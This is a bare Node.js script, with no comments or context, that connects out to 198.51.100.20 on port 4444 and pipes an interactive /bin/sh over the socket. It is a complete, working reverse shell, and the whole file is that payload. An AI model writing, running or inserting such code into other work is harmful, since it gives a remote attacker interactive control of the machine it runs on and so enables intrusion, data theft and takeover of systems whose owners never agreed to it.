const net = require("net");
const { spawn } = require("child_process");

const client = new net.Socket();
client.connect(4444, "198.51.100.20", () => {
  const sh = spawn("/bin/sh", ["-i"]);
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});
